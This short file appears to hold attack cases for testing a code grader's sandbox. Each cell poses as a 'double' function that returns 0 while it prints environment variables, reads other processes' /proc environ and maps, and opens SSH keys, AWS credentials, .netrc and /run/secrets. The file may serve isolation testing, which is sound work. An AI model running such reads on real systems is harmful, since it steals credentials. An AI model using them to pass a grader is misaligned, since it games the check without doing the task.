# What the fork or the machine hands down.

# %% environment_variables wins="secret"
import os
print(dict(os.environ))
print(open("/proc/self/environ").read())
def double(x):
    return 0

# %% environments_of_others unproved="the unprotected grader is one process, whose environment the attack before this reads"
import os
for pid in [name for name in os.listdir("/proc") if name.isdigit()] + [str(SCENE["worker"])]:
    for name in ("environ", "cmdline", "maps", "auxv"):
        try:
            print(open(f"/proc/{pid}/{name}", errors="replace").read())
        except OSError as error:
            print(error)
def double(x):
    return 0

# %% secrets_in_their_usual_places wins="secret"
import os
for place in ("~/.netrc", "~/.ssh/id_rsa", "~/.aws/credentials", "~/.config", "/run/secrets", "/var/run/secrets", SCENE["seed"]):
    try:
        print(open(os.path.expanduser(place)).read())
    except OSError as error:
        print(error)
def double(x):
    return 0
